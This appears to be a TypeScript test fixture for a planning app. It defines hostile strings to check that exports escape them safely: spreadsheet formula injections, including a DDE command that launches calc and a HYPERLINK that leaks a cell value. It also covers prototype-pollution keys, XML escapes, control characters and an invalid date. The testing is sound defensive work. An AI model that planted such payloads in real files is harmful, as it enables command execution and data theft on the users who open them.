import type { Plan } from '@core/plan'
import { fullPlan } from '../full-plan'
import { cards } from '../sample-plan'

/** What a spreadsheet could take for something else than words, or what breaks a file that is written carelessly. */
export const hostileTexts = [
  '=1+1',
  '+44 161 496 0000',
  '-2 degrees',
  '@SUM(A1:A9)',
  '=HYPERLINK("http://example.org/?"&A1;"Click")',
  '=cmd|" /C calc"!A0',
  '\t=1+1',
  'constructor',
  '__proto__',
  'toString',
  '_x0041_ and _x000D_',
  '<b>bold</b> & "quoted", ]]> &amp;',
  'one line\nand another\r\nand a third',
  '0012',
  '#N/A',
  '1/2',
  ' spaces around ',
  'Tŷ, gŵyl, Łukasz, 家, 👩‍👩‍👧',
  'a\u0000b\u001Bc\uFFFFd\uD800e',
] as const

/** A plan in which everything that people said is hostile. */
export function hostilePlan(): Plan {
  const plan = fullPlan({ title: '=1+1', attribution: '@SUM(1)' })
  const [action] = plan.actions
  const [card] = cards
  if (action === undefined || card === undefined) throw new RangeError('the sample is empty')
  return {
    ...plan,
    actions: hostileTexts.map((text, index) => ({
      ...action,
      id: `action-${index}`,
      text,
      lead: text,
      supporters: [text],
      person: text,
      due: index % 2 === 0 ? '2018-02-29' : '2018-03-01',
      measure: text,
    })),
    voices: [
      {
        name: '=1+1',
        cards: hostileTexts.map((text, index) => ({ ...card, number: index + 1, text, merged: [text] })),
      },
      { name: null, cards: [{ ...card, number: 100, text: 'long '.repeat(7000), merged: [] }] },
    ],
  }
}
